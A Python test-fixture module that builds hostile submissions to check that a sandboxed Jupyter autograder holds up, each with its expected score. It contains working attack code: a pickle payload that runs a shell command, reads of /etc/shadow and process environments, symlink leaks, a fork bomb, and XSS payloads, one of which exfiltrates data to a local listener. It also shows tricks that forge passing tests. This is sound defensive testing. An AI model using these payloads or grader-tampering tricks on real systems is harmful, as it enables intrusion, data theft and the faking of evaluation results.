"""Hostile and broken submissions for the hardened grader, each with the score it must get.

Every case starts from the reference answers and weights (20 autograded points) and
changes one thing. ``build(kind, release, weights, folder)`` writes the submission.
Policy recorded here (and in docs/instructors.md):
* harmless attempts (reading secrets, writing elsewhere, network, sys.exit, loops, memory
  bombs) cost nothing beyond the cell they break; the rest of the notebook is graded;
* replacing comparison/reporting functions is tampering: every test after it fails (0);
* a dead kernel keeps the points of the cells that ran before it, later tests get 0;
* a notebook that is not JSON, or of another assignment, gets 0 with the reason logged;
* submissions are data: links, special and oversized files are refused before nbgrader copies
  anything (the rest is graded), the kernel gets none of the grader's environment, borrowed
  code and forged checks fail the tests they concern, script is inert wherever viewed, and a
  warning costs nothing (issue 23, bubblewrap isolation).
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import torch

from fsl_utils.grading.notebook import fill_solutions, grade_id

SUM_NOT_MEAN = ("return one_hot.T @ embeddings / one_hot.sum(dim=0)[:, None]", "return one_hot.T @ embeddings")
BEFORE_ENCODER = 1 + 3 + 1 + 2 + 1 + 1  # prototypes, distances, logits
BEFORE_LOSS = BEFORE_ENCODER + 1 + 2

#: kind -> (expected autograded score, what it checks)
CASES: dict[str, tuple[float, str]] = {
    "edited_tests": (16.0, "test cells replaced by `pass` (answer wrong): the originals are restored and fail"),
    "deleted_tests": (16.0, "test cells deleted (answer wrong): re-added and fail"),
    "duplicated_grade_id": (20.0, "a test cell copied (duplicate grade_id): batch grading still works"),
    "test_to_markdown": (20.0, "hidden test cell turned into markdown: restored as code and run"),
    "points_edited": (20.0, "test cell metadata claims 100 points: restored to its real points"),
    "metadata_schema_edited": (20.0, "nbgrader schema_version edited (stops a plain nbgrader batch): repaired, graded normally"),
    "tests_moved_to_end": (20.0, "cells reordered (tests after all answers)"),
    "patched_allclose": (0.0, "torch.allclose replaced to always pass: tampering fails every test"),
    "patched_numpy_testing": (0.0, "numpy.testing.assert_allclose replaced: tampering fails every test"),
    "no_tracebacks": (0.0, "IPython showtraceback disabled: tampering fails every test"),
    "sys_exit": (20.0, "sys.exit() in an answer cell: the kernel survives, grading goes on"),
    "os_exit": (float(BEFORE_ENCODER), "os._exit() in the encoder cell: earlier points kept, later tests 0"),
    "segfault": (float(BEFORE_LOSS), "kernel crash (segfault) in the loss cell: earlier points kept"),
    "infinite_loop": (20.0, "an infinite loop after the definitions: interrupted at the cell timeout"),
    "memory_bomb": (20.0, "allocating 50 GiB: MemoryError under the sandbox's memory limit"),
    "network": (20.0, "connecting to a server on the grading machine: no network in the sandbox"),
    "read_secrets": (20.0, "reading the source notebook, gradebook and hidden tests (course, repository, .git) and printing them"),
    "search_filesystem": (20.0, "searching the whole file system for hidden tests, sources and gradebooks: none is visible"),
    "signal_grader": (20.0, "killing the grader (parent process) and init: not permitted"),
    "hang_in_hidden_test": (float(20 - 3), "an answer that hangs only on the hidden test's input: that test times out, the rest is graded"),
    "write_elsewhere": (20.0, "writing into solutions/, the gradebook and other students' folders"),
    "oversized_weights": (16.0, "a 3 MB protonet.pt: weights tests fail"),
    "pickled_code_weights": (16.0, "protonet.pt with pickled code: refused by weights_only=True, never run"),
    "invalid_json": (0.0, "the notebook is not JSON: 0, reason logged, batch continues"),
    "wrong_assignment": (0.0, "a notebook of another assignment under this name"),
    "non_utf8": (20.0, "a Latin-1 byte in a comment: decoded and graded normally"),
    "output_flood": (20.0, "printing 200,000 lines: output limited, grading goes on"),
    # submissions are data: nothing they carry is followed (fsl_utils.grading.sandbox.intake)
    "symlink_hidden_tests": (16.0, "leak.txt, a symlink to solutions/protonet/hidden_tests.py, and an answer that is only correct "
                                   "when it can read it: refused, not followed; the prototypes tests fail"),
    "symlink_other_student": (16.0, "protonet.pt a symlink to another student's weights: refused; the weights tests fail"),
    "symlink_notebook": (0.0, "the notebook itself a symlink to another student's notebook: not graded, reason logged"),
    "special_files": (20.0, "shadow.txt a symlink to /etc/shadow, notes.txt a hard link to the course's hidden_tests.py (both "
                            "printed by an answer), a named pipe (nbgrader's copy would hang on it) and a character device: "
                            "each refused, nothing read, the rest graded"),
    # nothing of the grader reaches the kernel
    "secret_env": (20.0, "printing the kernel's environment and /proc/*/environ: the grader's secret variable is not there"),
    # checks the kernel cannot forge
    "patched_probe": (15.0, "compute_prototypes runs the course's fsl_utils.methods code after patching LocalProbe.borrowed: "
                            "the code is a stub in the sandbox, every test that runs it fails (prototypes visible and hidden, "
                            "the visible loss test)"),
    "forged_tampering_check": (16.0, "a wrong answer, torch.allclose replaced and the in-kernel tampering check patched to report "
                                     "nothing: the grader's own run of the visible example still fails it"),
    "forged_partial_credit": (16.0, "a wrong answer and a pre_run_cell hook emitting an execute_result '1' (nbgrader's partial "
                                    "credit) in every cell: test cells score on errors only"),
    # viewing a submission is safe (tests/test_grading_browser.py opens it in the formgrader)
    "script_in_submission": (20.0, "script, event handlers, javascript: URLs, iframes, objects, active SVG and remote resources "
                                   "in a markdown cell and in outputs of every MIME type: inert wherever viewed"),
    # a warning is not a failure
    "warnings": (20.0, "correct code whose calls in test cells warn (PyTorch, NumPy, sklearn, DeprecationWarning): full marks, "
                       "the warnings shown"),
    # resource limits per submission
    "resource_fork_bomb": (20.0, "forking up to the process limit and holding it for 30 s while the next submissions (the "
                                 "reference among them: named to be graded next to it) are graded (JOBS=2): all keep their points"),
}

#: The value of an environment variable of the grader (``FSL_TEST_SECRET``) that must reach no kernel.
SECRET_VALUE = "fsl-secret-" + "4f1c9a27e8"
#: Paths the ``script_in_submission`` payloads send to the browser test's listener.
VIEW_PATHS = ("md-script", "md-onerror", "md-svg", "md-iframe", "md-js-url", "md-image", "md-object", "md-refresh", "md-css",
              "md-style", "md-base", "md-form", "md-details", "md-mxss", "md-input", "out-html", "out-js", "out-svg", "out-md",
              "out-isolated", "out-widget", "out-png-meta", "api-exfil")


def _answers_with(answers: dict[str, str], cell: str, extra: str) -> dict[str, str]:
    return {**answers, cell: answers[cell] + "\n" + extra + "\n"}


def build(kind: str, release: Path, answers: dict[str, str], weights: Path, folder: Path, env: dict[str, str]) -> None:
    """Write submission ``kind`` into ``folder`` (notebook + weights)."""
    folder.mkdir(parents=True)
    shutil.copy(weights, folder / "protonet.pt")
    sum_wrong = {**answers, "compute_prototypes": answers["compute_prototypes"].replace(*SUM_NOT_MEAN)}
    nb = None
    if kind == "edited_tests":
        nb = fill_solutions(release, sum_wrong)
        for cell in nb["cells"]:
            if grade_id(cell) in ("test_prototypes_visible", "test_prototypes_hidden"):
                cell["source"] = "pass"
    elif kind == "deleted_tests":
        nb = fill_solutions(release, sum_wrong)
        nb["cells"] = [c for c in nb["cells"] if grade_id(c) not in ("test_prototypes_visible", "test_prototypes_hidden")]
    elif kind == "duplicated_grade_id":
        nb = fill_solutions(release, answers)
        i = next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == "test_prototypes_visible")
        nb["cells"].insert(i + 1, json.loads(json.dumps(nb["cells"][i])))
    elif kind == "test_to_markdown":
        nb = fill_solutions(release, answers)
        for cell in nb["cells"]:
            if grade_id(cell) == "test_loss_hidden":
                cell["cell_type"] = "markdown"
                cell.pop("outputs", None)
                cell.pop("execution_count", None)
    elif kind == "points_edited":
        nb = fill_solutions(release, answers)
        for cell in nb["cells"]:
            if grade_id(cell) == "test_prototypes_visible":
                cell["metadata"]["nbgrader"]["points"] = 100
    elif kind == "metadata_schema_edited":
        nb = fill_solutions(release, answers)
        for cell in nb["cells"]:
            if grade_id(cell) in ("test_prototypes_visible", "compute_prototypes"):
                cell["metadata"]["nbgrader"]["schema_version"] = 1
    elif kind == "tests_moved_to_end":
        nb = fill_solutions(release, answers)
        tests = [c for c in nb["cells"] if (grade_id(c) or "").startswith("test_") and "weights" not in grade_id(c)]
        rest = [c for c in nb["cells"] if c not in tests]
        nb["cells"] = rest + tests
    elif kind == "patched_allclose":
        nb = fill_solutions(release, _answers_with(sum_wrong, "compute_prototypes", "torch.allclose = lambda *a, **k: True"))
    elif kind == "patched_numpy_testing":
        nb = fill_solutions(release, _answers_with(sum_wrong, "compute_prototypes", "np.testing.assert_allclose = lambda *a, **k: None"))
    elif kind == "no_tracebacks":
        nb = fill_solutions(release, _answers_with(sum_wrong, "compute_prototypes", "get_ipython().showtraceback = lambda *a, **k: None"))
    elif kind == "sys_exit":
        nb = fill_solutions(release, _answers_with(answers, "episode_loss_and_accuracy", "import sys\nsys.exit(0)"))
    elif kind == "os_exit":
        nb = fill_solutions(release, _answers_with(answers, "ProtoNetEncoder", "os._exit(1)"))
    elif kind == "segfault":
        nb = fill_solutions(release, _answers_with(answers, "episode_loss_and_accuracy", "import ctypes\nctypes.string_at(0)"))
    elif kind == "infinite_loop":
        nb = fill_solutions(release, _answers_with(answers, "episode_loss_and_accuracy", "while True:\n    pass"))
    elif kind == "memory_bomb":
        nb = fill_solutions(release, _answers_with(answers, "ProtoNetEncoder", "bomb = bytearray(50 * 2**30)"))
    elif kind == "network":
        port = env["FSL_TEST_PORT"]
        code = f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\nexcept OSError as err:\n    print('no network:', err)"
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    elif kind == "read_secrets":
        course, repo = env["FSL_TEST_COURSE"], env["FSL_TEST_REPO"]
        code = (
            "import glob\n"
            f"for name in glob.glob('{course}/solutions/*/*') + glob.glob('{course}/grading/**', recursive=True)"
            f" + glob.glob('{repo}/solutions/*/*') + glob.glob('{repo}/.git/*') + glob.glob('{repo}/grading/**', recursive=True)"
            " + glob.glob(os.environ.get('FSL_COURSE_ROOT', '.') + '/solutions/*/*') + glob.glob('../../*/*/*'):\n"
            "    try:\n        print('FOUND', name, open(name, 'rb').read()[:2000])\n    except OSError as err:\n        print('denied', name, err)"
        )
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    elif kind == "search_filesystem":
        code = (
            "import os as _os\n"
            "_skip = {'proc', 'sys', 'dev', 'usr', 'lib', 'lib64', 'bin', 'sbin', 'etc', 'var', 'snap', 'boot', '.library',\n"
            "         'site-packages', '.venv', '.pyenv', 'images_background', 'images_evaluation', 'node_modules'}\n"
            "_wanted = {'hidden_tests.py', 'gradebook.db', 'nbgrader_config.py', 'protonet.ipynb', 'protonet.pt'}\n"
            "for _dir, _subdirs, _files in _os.walk('/'):\n"
            "    _subdirs[:] = [d for d in _subdirs if d not in _skip]\n"
            "    if _dir.endswith('.git') or _wanted.intersection(_files) and not _dir.startswith(_os.getcwd()):\n"
            "        print('FOUND', _dir, sorted(_wanted.intersection(_files)))\n"
            "print('SEARCHED the file system')"
        )
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    elif kind == "signal_grader":
        # The grader's process on the host (the kernel's own PID namespace cannot see it: its
        # parent is PID 0 there and PID 1 is the kernel itself, so both are no targets).
        code = (
            "import signal\n"
            f"for _pid in ({int(env['FSL_TEST_GRADER_PID'])},):\n"
            "    try:\n        os.kill(_pid, signal.SIGKILL)\n        print('FOUND killed', _pid)\n"
            "    except OSError as err:\n        print('denied', _pid, err)\n"
            "print('FOUND the grader as parent', os.getppid()) if os.getppid() > 1 else print('no parent visible')"
        )
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    elif kind == "hang_in_hidden_test":
        # It sleeps where infinite_loop spins: the same interruption at the cell timeout, without
        # spending two more CPU-minutes of the test session.
        hang = answers["compute_prototypes"].replace(
            '    """\n', '    """\n    if embeddings.dtype == torch.float64:  # only a hidden test uses float64\n        import time\n        while True:\n            time.sleep(1)\n', 1)
        assert hang != answers["compute_prototypes"]
        nb = fill_solutions(release, {**answers, "compute_prototypes": hang})
    elif kind == "write_elsewhere":
        course = env["FSL_TEST_COURSE"]
        targets = [f"{course}/solutions/protonet/hidden_tests.py", f"{course}/grading/gradebook.db",
                   f"{course}/grading/submitted/reference/protonet/protonet.pt", f"{course}/nbgrader_config.py", f"{course}/pwned.txt"]
        code = f"for name in {targets!r}:\n    try:\n        open(name, 'a').write('pwned')\n    except OSError as err:\n        print('denied', name, type(err).__name__)"
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    elif kind == "oversized_weights":
        nb = fill_solutions(release, answers)
        (folder / "protonet.pt").write_bytes(os.urandom(3 * 2**20))
    elif kind == "pickled_code_weights":
        nb = fill_solutions(release, answers)

        class Evil:
            def __reduce__(self):
                return (os.system, (f"touch {env['FSL_TEST_COURSE']}/pickle-ran",))

        torch.save({"blocks.0.0.weight": Evil()}, folder / "protonet.pt")
    elif kind == "invalid_json":
        (folder / "protonet.ipynb").write_text('{"cells": [ this is not json', encoding="utf-8")
        return
    elif kind == "wrong_assignment":
        other = {"cells": [{"cell_type": "code", "metadata": {"nbgrader": {"grade": True, "grade_id": "other_test", "locked": True, "points": 5,
                                                                      "schema_version": 3, "solution": False, "task": False}},
                            "source": "assert True", "outputs": [], "execution_count": None}],
                 "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}, "nbformat": 4, "nbformat_minor": 5}
        (folder / "protonet.ipynb").write_text(json.dumps(other), encoding="utf-8")
        return
    elif kind == "non_utf8":
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", "# caf\u00e9"))
        data = json.dumps(nb).encode("ascii").replace(b"caf\\u00e9", b"caf\xe9")  # one raw Latin-1 byte
        assert b"caf\xe9" in data
        (folder / "protonet.ipynb").write_bytes(data)
        return
    elif kind == "output_flood":
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", "for i in range(200_000):\n    print(i)"))
    elif kind in INTAKE_CASES or kind in ("secret_env", "patched_probe", "forged_tampering_check", "forged_partial_credit",
                                          "script_in_submission", "warnings", "resource_fork_bomb"):
        nb = _build_more(kind, release, answers, sum_wrong, folder, env)
        if nb is None:
            return
    else:
        raise KeyError(kind)
    (folder / "protonet.ipynb").write_text(json.dumps(nb), encoding="utf-8")


INTAKE_CASES = ("symlink_hidden_tests", "symlink_other_student", "symlink_notebook", "special_files")
_PRINT_FILE = "for _name in {names!r}:\n    try:\n        print('FOUND', _name, open(_name, 'rb').read(300))\n    except OSError as _err:\n        print('denied', _name, type(_err).__name__)"


def _build_more(kind: str, release: Path, answers: dict[str, str], sum_wrong: dict[str, str], folder: Path, env: dict[str, str]) -> dict | None:
    """The cases added for bubblewrap isolation (issue 23); returns the notebook (None: already written)."""
    course = Path(env["FSL_TEST_COURSE"])
    if kind == "symlink_hidden_tests":
        os.symlink(course / "solutions" / "protonet" / "hidden_tests.py", folder / "leak.txt")
        # correct only when the hidden tests can be read (the exploit of issue 23): wrong otherwise
        cheat = ("import os as _os\nif not _os.path.isfile('leak.txt'):\n"
                 "    _right = compute_prototypes\n"
                 "    def compute_prototypes(embeddings, labels, n_way):\n"
                 "        return _right(embeddings, labels, n_way) * 2\n" + _PRINT_FILE.format(names=["leak.txt"]))
        return fill_solutions(release, _answers_with(answers, "compute_prototypes", cheat))
    if kind == "symlink_other_student":
        (folder / "protonet.pt").unlink()
        os.symlink(course / "grading" / "submitted" / "reference" / "protonet" / "protonet.pt", folder / "protonet.pt")
        return fill_solutions(release, answers)
    if kind == "symlink_notebook":
        os.symlink(course / "grading" / "submitted" / "reference" / "protonet" / "protonet.ipynb", folder / "protonet.ipynb")
        return None
    if kind == "special_files":
        import stat

        os.symlink("/etc/shadow", folder / "shadow.txt")
        os.link(course / "solutions" / "protonet" / "hidden_tests.py", folder / "notes.txt")
        os.mkfifo(folder / "pipe")
        try:
            os.mknod(folder / "zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
        except PermissionError:  # not root: a socket file is another special file
            import socket

            socket.socket(socket.AF_UNIX).bind(str(folder / "zero"))
        names = ["shadow.txt", "/etc/shadow", "notes.txt", "pipe", "zero"]
        return fill_solutions(release, _answers_with(answers, "compute_prototypes", _PRINT_FILE.format(names=names)))
    if kind == "secret_env":
        code = ("print('ENV', dict(os.environ))\n"
                "for _p in ('/proc/self/environ', '/proc/1/environ', '/proc/2/environ'):\n"
                "    try:\n        print('PROC', _p, open(_p, 'rb').read())\n    except OSError as _err:\n        print('denied', _p, _err)")
        return fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    if kind == "patched_probe":
        code = ("import fsl_utils.grading.checks.probe as _probe\n_probe.LocalProbe.borrowed = lambda self: []\n"
                "from fsl_utils.methods.protonet import class_means\n"
                "def compute_prototypes(embeddings, labels, n_way):\n    return class_means(embeddings, labels, n_way)")
        return fill_solutions(release, _answers_with(answers, "compute_prototypes", code))
    if kind == "forged_tampering_check":
        code = ("import fsl_utils.grading.checks.tampering as _tampering, fsl_utils.grading.checks.probe as _probe\n"
                "_tampering.tampering = _probe.tampering = lambda: []\n_probe.LocalProbe.tampering = lambda self: []\n"
                "torch.allclose = lambda *a, **k: True")
        return fill_solutions(release, _answers_with(sum_wrong, "compute_prototypes", code))
    if kind == "forged_partial_credit":
        code = "import sys as _sys\nget_ipython().events.register('pre_run_cell', lambda *a, **k: _sys.displayhook(1))"
        return fill_solutions(release, _answers_with(sum_wrong, "compute_prototypes", code))
    if kind == "script_in_submission":
        nb = fill_solutions(release, _answers_with(answers, "compute_prototypes", _view_payload_code(env["FSL_TEST_VIEW_PORT"])))
        nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": _view_payload_markdown(env["FSL_TEST_VIEW_PORT"])})
        return nb
    if kind == "warnings":
        warn_protos = answers["compute_prototypes"].replace('    """\n', '    """\n    _warn_all(embeddings)\n', 1)
        helper = ("import warnings\nfrom sklearn.exceptions import ConvergenceWarning\n"
                  "def _warn_all(x):\n"
                  "    torch.tensor(x)  # PyTorch: UserWarning, copy-construct from a tensor\n"
                  "    np.float64(1.0) / np.float64(0.0)  # NumPy: RuntimeWarning, divide by zero\n"
                  "    warnings.warn('lbfgs failed to converge', ConvergenceWarning)\n"
                  "    warnings.warn('this helper is deprecated', DeprecationWarning)\n")
        loss = answers["episode_loss_and_accuracy"].rstrip() + "\n_right_loss = episode_loss_and_accuracy\n" + (
            "def episode_loss_and_accuracy(model, episode):\n"
            "    loss, accuracy = _right_loss(model, episode)\n"
            "    float(loss)  # PyTorch: UserWarning, converting a tensor that requires grad (the MAML case of issue 23)\n"
            "    return loss, accuracy\n")
        assert warn_protos != answers["compute_prototypes"]
        return fill_solutions(release, {**answers, "compute_prototypes": helper + warn_protos, "episode_loss_and_accuracy": loss})
    if kind == "resource_fork_bomb":
        # The bomb's processes fork until the submission's process limit and hold it for 30 s, then end;
        # the kernel waits meanwhile (while the limit is reached, it could not start a thread itself),
        # so this submission's own score does not depend on timing.
        code = ("import os as _os, time as _time\n"
                "_bomb = _os.fork()\n"
                "if _bomb == 0:  # the children never return to the kernel's code\n"
                "    _end = _time.time() + 30\n"
                "    while _time.time() < _end:\n"
                "        try:\n            _os.fork()\n        except OSError:\n            _time.sleep(0.05)\n"
                "    _os._exit(0)\n"
                "_time.sleep(35)\n_os.waitpid(_bomb, 0)\nprint('forked')")
        return fill_solutions(release, _answers_with(answers, "ProtoNetEncoder", code))
    raise KeyError(kind)


def _view_payload_markdown(port: str) -> str:
    u = f"http://127.0.0.1:{port}"
    return "\n\n".join([
        "## My notes",
        f"<script>fetch('{u}/md-script')</script>",
        f"<img src=x onerror=\"fetch('{u}/md-onerror')\">",
        f"<svg onload=\"fetch('{u}/md-svg')\"><circle r=5 /></svg>",
        f"<iframe srcdoc=\"<script>fetch('{u}/md-iframe')</script>\"></iframe>",
        f"<a href=\"javascript:fetch('{u}/md-js-url')\" id=\"fsl-js-link\">a link</a>",
        f"![picture]({u}/md-image)",
        f"<object data=\"{u}/md-object\"></object>",
        f"<meta http-equiv=\"refresh\" content=\"0;url={u}/md-refresh\">",
        f"<link rel=\"stylesheet\" href=\"{u}/md-css\">",
        f"<style>@import url('{u}/md-style');</style>",
        f"<base href=\"{u}/md-base/\">",
        f"<form action=\"{u}/md-form\"><button id=\"fsl-form-button\">send</button></form>",
        f"<details open ontoggle=\"fetch('{u}/md-details')\"><summary>s</summary>x</details>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('{u}/md-mxss')\">",
        f"<input autofocus onfocus=\"fetch('{u}/md-input')\">",
    ])


def _view_payload_code(port: str) -> str:
    u = f"http://127.0.0.1:{port}"
    exfil = f"fetch('/api/contents').then(r => r.text()).then(t => fetch('{u}/api-exfil', {{method: 'POST', body: t}}))"
    return "\n".join([
        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
        f"display(HTML(\"<img src=x onerror=\\\"fetch('{u}/out-html')\\\"><script>{exfil}</script>\"))",
        f"display(Javascript(\"fetch('{u}/out-js')\"))",
        f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch(\\'{u}/out-svg\\')\"><script>fetch(\\'{u}/out-svg\\')</script></svg>'))",
        f"display(Markdown(\"<img src=x onerror=\\\"fetch('{u}/out-md')\\\">\"))",
        f"display(HTML(\"<script>fetch('{u}/out-isolated')</script>\"), metadata={{'isolated': True}})",
        f"display({{'application/vnd.jupyter.widget-view+json': {{'model_id': 'x', 'version_major': 2, 'version_minor': 0}}, "
        f"'text/html': \"<img src=x onerror=\\\"fetch('{u}/out-widget')\\\">\"}}, raw=True)",
        f"display({{'image/png': 'iVBORw0KGgo=', 'text/plain': 'png'}}, metadata={{'image/png': {{'width': \"1 onerror=fetch('{u}/out-png-meta')\"}}}}, raw=True)",
    ])


def active_payloads(page: str, port: int | str) -> list[str]:
    """Payloads of ``script_in_submission`` that are active in a rendered ``page``: the listener's
    URL or a payload's code inside a <script> element or in an attribute that runs or loads it
    (event handlers, links, sources, frames). Text — e.g. the student's code shown highlighted —
    is never active. (The browser test, tests/test_grading_browser.py, is the real check.)"""
    import html.parser

    marker = f"127.0.0.1:{port}"
    found: list[str] = []

    class Judge(html.parser.HTMLParser):
        script = False

        def handle_starttag(self, tag, attrs):
            self.script = tag == "script"
            for name, value in attrs:
                if name not in ("title", "alt", "class") and value and (marker in value or "javascript:" in value.lower()):
                    found.append(f"<{tag} {name}={value[:80]!r}>")

        def handle_endtag(self, tag):
            self.script = False

        def handle_data(self, data):
            if self.script and marker in data:
                found.append(f"<script>{data[:80]!r}")

    Judge().feed(page)
    return found
